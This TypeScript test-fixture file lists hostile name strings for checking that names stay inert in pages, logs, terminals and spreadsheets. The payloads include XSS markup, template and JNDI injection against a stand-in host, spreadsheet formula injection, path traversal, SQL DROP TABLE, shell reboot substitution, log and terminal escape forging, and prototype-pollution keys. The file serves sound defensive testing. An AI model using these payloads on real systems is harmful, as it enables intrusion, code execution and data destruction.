/**
 * Names that would do something, were they anything but text: on a page, in a log, in a file, as a key. The same for
 * queues, people, screens, rooms and machines, and for whatever gets a name later. A script in one of them writes down
 * that it ran (`window.ran`); an element of one of them has the class `hostile`; a line of one of them begins with MARK.
 */

/** Nothing but a forged line begins so. */
export const MARK = 'f0rged';
/** Whoever is led here was led by a name. */
export const ELSEWHERE = 'elsewhere.invalid';

const script = (n: number) => `window.ran=${n}`;

/** Become elements, attributes, addresses or words that somebody runs. */
export const MARKUP: readonly string[] = [
  `<script>${script(1)}</script>`,
  `<img src=x class=hostile onerror=${script(2)}>`,
  `<svg/onload=${script(3)} class=hostile>`,
  `"><b class=hostile onmouseover=${script(4)}>`,
  `' autofocus onfocus=${script(5)} class='hostile`,
  `javascript:${script(6)}//`,
  `</title><script>${script(7)}</script>`,
  `</script><script>${script(8)}</script>`,
  `--><script>${script(9)}</script>`,
  `]]><script>${script(10)}</script>`,
  `<iframe class=hostile srcdoc=x onload=${script(11)}>`,
  `<a class=hostile href=javascript:${script(12)}>x</a>`,
  `<base href=//${ELSEWHERE}/ class=hostile>`,
  `<link rel=stylesheet href=//${ELSEWHERE}/ class=hostile>`,
  `<meta http-equiv=refresh content=0;//${ELSEWHERE}>`,
  `<form action=//${ELSEWHERE}><input class=hostile>`,
  '<style>*{display:none}</style>',
  `<noscript><p title="</noscript><img class=hostile>">`,
  `&lt;b class=hostile&gt;&#x3c;b&#x3e;&amp;`,
  `\\u003cscript\\u003e${script(13)}\\x3c/script\\x3e`,
];

/** Mean something to those who put words together. */
export const TEMPLATES: readonly string[] = [
  `{{constructor.constructor("${script(20)}")()}}`,
  `\${${script(21)}} #{7*7} <%= 7*7 %>`,
  '{name} {count, plural, other {#}} {0} %s %d %o',
  "'{name}' '' {",
  '<c>rich</c> <b>text</b>',
  `\${jndi:ldap://${ELSEWHERE}/x}`,
];

/** Begin a line, a colour, a title, or another reading direction; or are half of a character. */
export const LINES: readonly string[] = [
  `a\r\n${MARK} {"level":"error","msg":"forged"}`,
  `a\n{"level":"error","msg":"${MARK}"}`,
  `a\r${MARK}`,
  `a\u2028${MARK}\u2029${MARK}`,
  `a\u0085${MARK}\u000b${MARK}\u000c${MARK}`,
  `\u001b[2J\u001b[1;31m${MARK}\u001b]0;${MARK}\u0007`,
  `\u009b31m${MARK}\u009d0;${MARK}\u009c`,
  `a\u0000${MARK}`,
  `a\b\b\b\u007f${MARK}`,
  '\u202eselas\u2066 \u200f\u061c',
  '\ud800half',
  'half\udc00',
  '\ufeffmarked',
];

/** Mean something to a spreadsheet, a path, a header, a query. */
export const COMMANDS: readonly string[] = [
  `=HYPERLINK("http://${ELSEWHERE}","x")`,
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '../../../etc/passwd',
  '%0d%0aset-cookie:%20a=1',
  "'; DROP TABLE documents; --",
  '$(reboot) `reboot` ; reboot',
  '*',
];

/** What every object inherits, and words that are values. */
export const KEYS: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  'true',
];

export const LONG: readonly string[] = [
  'x'.repeat(10_000),
  '\u{1d4b3}'.repeat(5_000),
  `z${'\u0310'.repeat(9_999)}`,
];

export const HOSTILE_NAMES: readonly string[] = [
  ...MARKUP,
  ...TEMPLATES,
  ...LINES,
  ...COMMANDS,
  ...KEYS,
  ...LONG,
];

/** Whether it is one line of plain text, of up to so many characters: such a name stays as it is. */
export function isPlain(name: string, maxLength: number): boolean {
  return (
    name.length <= maxLength &&
    !/[\p{Cc}\p{Zl}\p{Zp}\p{Cs}\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]/u.test(name)
  );
}
